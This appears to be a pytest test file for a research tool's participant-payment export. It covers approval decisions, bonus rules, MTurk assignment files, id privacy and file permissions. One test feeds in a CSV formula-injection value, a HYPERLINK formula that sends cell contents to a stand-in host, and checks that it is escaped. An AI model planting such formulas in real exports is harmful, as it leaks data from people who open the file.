"""``verax study payments``: who is paid, by the platform's ids, and nothing of their answers."""

from __future__ import annotations

import csv
import stat
from contextlib import closing
from decimal import Decimal

import pytest
from sqlalchemy import select

from small_study import FAILED, Clock, do_step, finish, small_study
from verax.errors import VeraxError
from verax.studies.answers.payments import Payment, bonus_by, payments, read_ids, write_payments
from verax.studies.definition.spec import make_study_spec
from verax.studies.definition.spec_tables import Bonus
from verax.studies.definition.study_files import load_study, save_study
from verax.studies.store import open_store, platform_key
from verax.studies.store.tables import metadata

IDS = {
    name: f"5f3c0a2b9d1e4f00123456{number:02d}"
    for number, name in enumerate(("done", "careless", "out", "declined", "left", "here", "gone", "never"))
}
BONUS = [
    {"column": "right", "amount": 0.35, "for_each": True},
    {"column": "answers", "amount": 0.10, "at_least": 2},
    {"column": "score", "amount": 5.0, "at_least": 0.9},
]
CHECKS = [{"rule": "failed-checks", "limit": 0.2}]


@pytest.fixture
def study(folder):
    """A store with somebody in every state, whose study pays a bonus and rejects who failed checks."""

    def start(entry="prolific", clock=None, **more):
        made = small_study(
            entry=entry,
            target=9,
            recruiting={"bonus": BONUS},
            exclusion=CHECKS,
            timing={"hold_minutes": 5},
            **more,
        )
        save_study(made, folder / "study")
        loaded = load_study(folder / "study")
        url = f"sqlite:///{folder / 'study' / 'answers.sqlite'}"
        return open_store(loaded, url, clock=clock or Clock(), key=platform_key(loaded, folder / "study"))

    return start


def come(store, name, *, platform="prolific", agreed=True) -> str:
    to = {"assignmentId": f"A-{name}", "host": "https://www.mturk.com"} if platform == "mturk" else None
    token = store.enter(platform=platform, person=IDS[name], return_to=to)
    store.consent(token, agreed)
    return token


def everybody(store, clock, platform="prolific") -> None:
    left = come(store, "left", platform=platform)
    do_step(store, left)
    clock.advance(3600)
    finish(store, come(store, "done", platform=platform))
    careless = come(store, "careless", platform=platform)
    do_step(store, careless)
    do_step(store, careless, FAILED)
    finish(store, careless)
    out = come(store, "out", platform=platform)
    do_step(store, out)
    for _ in range(2):
        while not store.look(out).screen.questions:
            do_step(store, out)
        do_step(store, out, FAILED)
    come(store, "declined", platform=platform, agreed=False)
    do_step(store, come(store, "here", platform=platform))
    gone = come(store, "gone", platform=platform)
    do_step(store, gone)
    store.withdraw(gone)


def test_everybody_on_the_platforms_list_gets_a_decision_and_a_reason(study, verax, folder):
    clock = Clock()
    listed = folder / "prolific_export.csv"
    rows = [
        ["Submission id", "Participant id", "Status"],
        *(["s", id, "AWAITING REVIEW"] for id in IDS.values()),
    ]
    with listed.open("w", newline="") as file:
        csv.writer(file).writerows(rows)
    with closing(study(clock=clock)) as store:
        everybody(store, clock)
        decided = {one.person: one for one in payments(store, read_ids(listed))}
        by_name = {name: decided[id].decision for name, id in IDS.items()}
        assert by_name == {
            "done": "approve",
            "careless": "reject",
            "out": "screen-out",
            "declined": "return",
            "left": "return",
            "here": "wait",
            "gone": "return",
            "never": "unknown",
        }
        done = decided[IDS["done"]]
        # One of the two scored answers is right: 0.35 for it, and 0.10 for two answers; no mean score of 0.9.
        assert (done.bonus, done.bonus_reason) == (Decimal("0.45"), "right answers: 1; answers: 2")
        assert "failed-checks" in decided[IDS["careless"]].reason
    ended = verax("study", "payments", "study", "--ids", str(listed), "--out", "pay")
    assert ended.status == 0, ended.err
    pay = folder / "pay"
    assert (pay / "approve.txt").read_text() == f"{IDS['done']}\n"
    assert (pay / "screen-out.txt").read_text() == f"{IDS['out']}\n"
    assert (pay / "bonus.csv").read_text() == f"{IDS['done']},0.45\n"
    assert (pay / "reject.csv").read_text().startswith(f'{IDS["careless"]},"Completed the study, but failed')
    with (pay / "payments.csv").open(newline="") as file:
        assert [row["id"] for row in csv.DictReader(file)] == list(IDS.values())
    assert stat.S_IMODE((pay / "bonus.csv").stat().st_mode) == 0o600


def test_mturk_gets_assignments(study, verax, folder):
    clock = Clock()
    (folder / "ids.txt").write_text("\n".join(IDS.values()))
    with closing(study("mturk", clock)) as store:
        everybody(store, clock, "mturk")
    assert verax("study", "payments", "study", "--ids", "ids.txt", "--out", "pay").status == 0
    lines = (folder / "pay" / "assignments.csv").read_text().splitlines()
    assert lines[:2] == ["WorkerId,AssignmentId,Approve,Reject", f"{IDS['done']},A-done,x,"]
    assert lines[2].startswith(f"{IDS['careless']},A-careless,,")
    assert len(lines) == 3
    assert (
        (folder / "pay" / "bonus.csv").read_text().splitlines()[1].startswith(f"{IDS['done']},A-done,0.45,")
    )


def test_no_id_is_stored_and_nobody_is_found_once_their_time_is_over(study):
    clock = Clock()
    with closing(study(clock=clock, retention_days=10)) as store:
        finish(store, come(store, "done"))
        for table in metadata.sorted_tables:
            stored = store.database.read(
                lambda connection, table=table: connection.execute(select(table)).all()
            )
            assert IDS["done"] not in repr(stored)
        assert payments(store, [IDS["done"]])[0].decision == "approve"
        clock.advance(11 * 24 * 3600)
        store.purge()
        assert payments(store, [IDS["done"]])[0].decision == "unknown"


@pytest.mark.parametrize(
    ("rule", "value", "paid"),
    [
        ({"amount": 0.5}, 0, "0.50"),
        ({"amount": 0.5, "at_least": 3}, 2.9, "0"),
        ({"amount": 0.5, "at_least": 3}, 3, "0.50"),
        ({"amount": 0.05, "for_each": True, "at_least": 16}, 20, "0.20"),
        ({"amount": 0.05, "for_each": True, "at_least": 16, "most": 0.12}, 20, "0.12"),
        ({"amount": 0.1, "for_each": True}, 0.1 + 0.2 + 0.7, "0.10"),  # a sum a hair below or above a whole
        ({"amount": 0.1, "for_each": True}, -3, "0.00"),
    ],
)
def test_a_bonus_is_paid_by_its_rule(rule, value, paid):
    assert bonus_by(Bonus(column="points", **rule), value) == Decimal(paid)


@pytest.mark.parametrize(
    ("more", "sentence"),
    [
        (
            {"recruiting": {"bonus": [{"column": "luck", "amount": 1}]}},
            "there is no column 'luck' to pay a bonus by; there are: right, answers, points, score, minutes, pages",
        ),
        (
            {"entry": "link", "recruiting": {"bonus": [{"column": "right", "amount": 1}]}},
            "is paid by a platform",
        ),
        ({"recruiting": {"attention_url": "https://example.org"}}, "declare the rule"),
    ],
)
def test_bad_rules_are_a_sentence_when_the_study_is_built(more, sentence):
    given = {
        "title": "A study",
        "dataset": "imdb",
        "entry": "prolific",
        "protocol": {"name": "forward"},
        "conditions": [{"name": "lime", "explainer": "lime"}],
    }
    with pytest.raises(VeraxError, match=sentence):
        make_study_spec(given | more)


@pytest.mark.parametrize(
    ("content", "sentence"),
    [("", "no id"), ("name,status\na,b\n", "no column of ids")],
)
def test_a_list_without_ids_is_a_sentence(tmp_path, content, sentence):
    (tmp_path / "ids.csv").write_text(content)
    with pytest.raises(VeraxError, match=sentence):
        read_ids(tmp_path / "ids.csv")


def test_a_study_without_a_platform_pays_nobody(verax, folder):
    save_study(small_study(), folder / "study")
    with closing(
        open_store(load_study(folder / "study"), f"sqlite:///{folder / 'study' / 'answers.sqlite'}")
    ):
        pass
    (folder / "ids.txt").write_text("x\n")
    ended = verax("study", "payments", "study", "--ids", "ids.txt", "--out", "pay")
    assert ended.status == 2
    assert "nobody is paid by a platform" in ended.err


def test_an_id_in_the_list_that_is_a_formula_is_none_in_the_decisions(tmp_path):
    formula = '=HYPERLINK("http://a.example/?"&A1)'
    decided = [Payment(formula, "unknown", "Nobody."), Payment("5f0a", "approve", "")]
    write_payments(decided, tmp_path / "out", "prolific")
    path = tmp_path / "out" / "payments.csv"
    rows = csv.reader(path.read_text(encoding="utf-8").splitlines())
    assert [row[0] for row in rows] == ["id", f"'{formula}", "5f0a"]
    assert path.stat().st_mode & 0o077 == 0
